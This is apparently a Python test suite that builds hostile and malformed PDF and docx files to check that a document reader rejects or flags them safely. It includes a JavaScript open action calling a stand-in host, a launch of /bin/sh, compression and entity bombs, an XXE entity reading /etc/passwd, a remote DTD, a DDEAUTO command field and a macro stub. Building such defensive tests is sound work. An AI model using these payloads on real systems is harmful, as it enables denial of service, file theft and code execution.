"""PDF and docx files: empty, locked, active, endless, cut, or with more in them than is shown."""

import zlib
from collections.abc import Callable
from functools import partial

from hostile.archives import zipped
from hostile.case import ANY, FACT, LOADED, NOTICED, REJECTED, WARNED, Case, given

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
HIDDEN = "Nobody should read that 999 people were killed."


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF file of such objects, numbered from 1, the first its catalogue."""
    body, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(body))
    return bytes(body) + table + end


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def _shown(*lines: str) -> bytes:
    return b"BT /F1 12 Tf 50 750 Td 14 TL\n" + b"".join(b"(%s) Tj T*\n" % line.encode() for line in lines) + b"ET"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_LINES = ("Harbour fire kills 42", FACT, "The fire began in a shed for fertiliser and burned until noon.")


def paged(content: bytes, catalogue: bytes = b"", page: bytes = b"", trailer: bytes = b"", *more: bytes) -> bytes:
    """A PDF of one page; further objects count from 6."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> %s >>" % page,
        content, _FONT, *more, trailer=trailer,
    )  # fmt: skip


_GOOD = paged(stream(_shown(*_LINES)))
_LOCK = (
    b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <%s> /U <%s> >> /ID [<00112233445566778899aabbccddeeff> <00>]"
    % (b"ab" * 32, b"cd" * 32)
)
_JAVASCRIPT = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\)) >>"
_LAUNCH = b"/OpenAction << /S /Launch /F (/bin/sh) >>"
_TWICE = stream(zlib.compress(zlib.compress(bytes(150_000_000))), b"/Filter [/FlateDecode /FlateDecode]")


def _loop() -> bytes:
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2000000000 >>")


def _deep(opened: bytes, closed: bytes, depth: int) -> bytes:
    return paged(stream(_shown(*_LINES)), b"/Deep " + opened * depth + closed * depth)


def _form_in_itself() -> bytes:
    form = stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")
    page = paged(stream(_shown(*_LINES) + b" /X Do"), b"", b"", b"", form)
    return page.replace(b"/Font << /F1 5 0 R >> >>", b"/Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>")


def _many_objects(number: int) -> bytes:
    return paged(stream(_shown(*_LINES)), b"", b"", b"", *([b"<< /A [1 2 3] >>"] * number))


def _many_pages(number: int) -> bytes:
    kids = b"3 0 R " * number
    return _GOOD.replace(b"/Kids [3 0 R] /Count 1", b"/Kids [%s] /Count %d" % (kids, number))


def _operators(number: int) -> bytes:
    return paged(stream(zlib.compress(_shown(*_LINES) + b"BT /F1 1 Tf 0 0 Td (x) Tj ET\n" * number), b"/Filter /FlateDecode"))


PDF = [
    Case("pdf/good.pdf", given(_GOOD), LOADED, "", "42 people were killed", n_articles=1),
    Case("pdf/named.txt", given(_GOOD), f"{LOADED}|{WARNED}", "", "42 people were killed"),
    Case("pdf/no-text.pdf", given(paged(stream(b"0 0 100 100 re f"))), REJECTED, "no text"),
    Case("pdf/no-pages.pdf", given(pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")), REJECTED, "no text|no page"),
    Case("pdf/encrypted.pdf", given(paged(stream(_shown(*_LINES)), trailer=_LOCK)), REJECTED, "encrypt|password"),
    Case("pdf/javascript.pdf", given(paged(stream(_shown(*_LINES)), _JAVASCRIPT)), f"{LOADED}|{WARNED}", "", "42 people", "launchURL"),
    Case("pdf/launch.pdf", given(paged(stream(_shown(*_LINES)), _LAUNCH)), f"{LOADED}|{WARNED}", "", "42 people"),
    Case("pdf/cut.pdf", given(_GOOD[: len(_GOOD) // 2]), NOTICED, "PDF|pdf|cut|damaged|cannot|no text"),
    Case("pdf/cut-short.pdf", given(_GOOD[:-20]), NOTICED, "broken|cut short"),
    Case("pdf/noise-before.pdf", given(b"noise\n" * 100 + _GOOD), f"{LOADED}|{WARNED}", "", "42 people were killed"),
    Case("pdf/noise-after.pdf", given(_GOOD + b"x" * 5_000), f"{LOADED}|{WARNED}", "", "42 people were killed"),
    Case("pdf/no-table.pdf", given(_GOOD.replace(b"startxref", b"startnone")), ANY),
    Case("pdf/far-table.pdf", given(_GOOD[: _GOOD.rindex(b"startxref")] + b"startxref\n99999999999999999999\n%%EOF"), ANY),
    Case("pdf/head-only.pdf", given(b"%PDF-1.7\n"), REJECTED, "PDF|pdf|damaged|cannot|no text"),
    Case("pdf/noise.pdf", given(b"%PDF-1.7\n" + bytes(range(256)) * 400), REJECTED, "PDF|pdf|damaged|cannot|no text"),
    Case("pdf/previous-is-itself.pdf", given(_GOOD.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d" % _GOOD.rindex(b"xref\n0"))), ANY, kind="bait"),
    Case("pdf/pages-in-themselves.pdf", _loop, NOTICED, "PDF|pdf|page|nest|cannot|no text|deep|second|time", kind="bait"),
    Case("pdf/form-in-itself.pdf", _form_in_itself, ANY, kind="bait"),
    Case("pdf/deep-lists.pdf", partial(_deep, b"[", b"]", 100_000), NOTICED, "nest|deep|PDF|pdf|cannot", kind="bait"),
    Case("pdf/deep-dictionaries.pdf", partial(_deep, b"<</A ", b">>", 50_000), ANY, "nest|deep|PDF|pdf|cannot", "42 people were killed", kind="bait"),
    Case("pdf/many-objects.pdf", partial(_many_objects, 100_000), ANY, kind="bait"),
    Case("pdf/many-pages.pdf", partial(_many_pages, 20_000), ANY, kind="bait"),
    Case("pdf/operators.pdf", partial(_operators, 400_000), ANY, kind="bait"),
    Case("pdf/swollen.pdf", lambda: paged(stream(zlib.compress(bytes(200_000_000)), b"/Filter /FlateDecode")), REJECTED, kind="bomb"),
    Case("pdf/swollen-twice.pdf", lambda: paged(_TWICE), REJECTED, kind="bomb"),
    Case("pdf/says-endless.pdf", given(paged(b"<< /Length 99999999999 >>\nstream\nBT\nendstream")), NOTICED),
]  # fmt: skip


def _main(body: str, prologue: str = "", w: str = _W) -> bytes:
    return f'<?xml version="1.0"?>{prologue}<w:document xmlns:w="{w}"><w:body>{body}</w:body></w:document>'.encode()


def document(body: str, prologue: str = "", w: str = _W, **parts: str) -> bytes:
    """A docx file with such a body; `parts` are further members."""
    members = {
        "[Content_Types].xml": _TYPES.encode(),
        "_rels/.rels": _RELATIONS.encode(),
        "word/document.xml": _main(body, prologue, w),
    }
    return zipped(members | {name: content.encode() for name, content in parts.items()})


def _paragraph(text: str, properties: str = "") -> str:
    return f"<w:p><w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r></w:p>"


_BODY = "".join(map(_paragraph, _LINES))
_TABLE = f"<w:tbl><w:tr><w:tc>{_paragraph('Missing')}</w:tc><w:tc>{_paragraph('17 dockers')}</w:tc></w:tr></w:tbl>"
_LAUGHS = '<!DOCTYPE l [<!ENTITY a "haha">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(10)) + "]>"  # fmt: skip
_OUTSIDE = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_PARAMETER = '<!DOCTYPE l [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;]>'


def _docx(
    name: str, make: Callable[[], bytes], status: str, reason: str = "", holds: str = "", lacks: str = "", kind: str = ""
) -> Case:
    return Case(f"docx/{name}.docx", make, status, reason, holds, lacks, kind)


def _deep_tables(depth: int) -> bytes:
    return document("<w:tbl><w:tr><w:tc>" * depth + _BODY + "</w:tc></w:tr></w:tbl>" * depth)


def _swollen_docx() -> bytes:
    return document(_BODY + _paragraph(" " * 150_000_000))


DOCX = [
    _docx("good", partial(document, _BODY), LOADED, "", FACT),
    _docx("table", partial(document, _BODY + _TABLE), LOADED, "", "17 dockers"),
    _docx("hidden", partial(document, _BODY + _paragraph(HIDDEN, "<w:vanish/>")), f"{LOADED}|{WARNED}", "", FACT, "999 people"),
    _docx("not-hidden", partial(document, _BODY + _paragraph("Rain fell.", '<w:vanish w:val="0"/>')), LOADED, "", "Rain fell."),
    _docx("deleted", partial(document, f"{_BODY}<w:p><w:del><w:r><w:delText>{HIDDEN}</w:delText></w:r></w:del></w:p>"), f"{LOADED}|{WARNED}", "", FACT, "999 people"),
    _docx("field", partial(document, f'{_BODY}<w:p><w:r><w:instrText>DDEAUTO c:\\cmd "{HIDDEN}"</w:instrText></w:r></w:p>'), f"{LOADED}|{WARNED}", "", FACT, "999 people"),
    _docx("laughs", partial(document, f"{_BODY}<w:p><w:r><w:t>&k;</w:t></w:r></w:p>", _LAUGHS), REJECTED, "DTD|entit|document type|docx", lacks="hahahaha", kind="bomb"),
    _docx("file-entity", partial(document, f"{_BODY}<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", _OUTSIDE), REJECTED, "DTD|entit|document type|docx", lacks="root:"),
    _docx("net-entity", partial(document, _BODY, _PARAMETER), REJECTED, "DTD|entit|document type|docx"),
    _docx("no-document", partial(zipped, {"[Content_Types].xml": _TYPES.encode()}), REJECTED, "docx|document|part|missing|no text"),
    _docx("no-text", partial(document, "<w:p/>"), REJECTED, "no text"),
    _docx("bad-xml", partial(document, "<w:p><w:r><w:t>42 people & no end"), REJECTED, "docx|XML|xml|cannot|damaged|broken"),
    _docx("deep-tables", partial(_deep_tables, 20_000), ANY, "nest|deep|docx|cannot", FACT, kind="bait"),
    _docx("many-paragraphs", partial(document, _BODY + "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 100_000), ANY, kind="bait"),
    _docx("bomb", _swollen_docx, REJECTED, kind="bomb"),
    _docx("outside-template", partial(document, _BODY, **{"word/_rels/settings.xml.rels": '<Relationships><Relationship TargetMode="External" Target="http://192.0.2.1/x.dotm"/></Relationships>'}), LOADED, "", FACT),
    Case("docx/strict.docx", lambda: document(_BODY, w="http://purl.oclc.org/ooxml/wordprocessingml/main"), LOADED, "", FACT),
    Case("docx/numbered.docx", lambda: zipped({"word/document2.xml": _main(_BODY)}), LOADED, "", FACT),
    Case("docx/part-twice.docx", lambda: zipped({"word/document.xml": _main(_BODY), "word/document.xmm": _main(_paragraph(HIDDEN))}).replace(b".xmm", b".xml"), REJECTED, "two parts", lacks="999 people"),
    Case("docx/macros.docx", partial(document, _BODY, **{"word/vbaProject.bin": "Auto_Open Shell"}), f"{LOADED}|{WARNED}", "", FACT, "Auto_Open"),
    Case("docx/named.zip", partial(document, _BODY), ANY),
    Case("docx/old.doc", given(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)), REJECTED, "doc|reader|kind|text|format"),
    Case("docx/old-as.docx", given(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)), REJECTED, "doc|reader|kind|text|format|zip|encrypt"),
    Case("docx/cut.docx", given(document(_BODY)[:-80]), REJECTED, "docx|zip|cut|damaged|cannot"),
]  # fmt: skip

CASES = [*PDF, *DOCX]
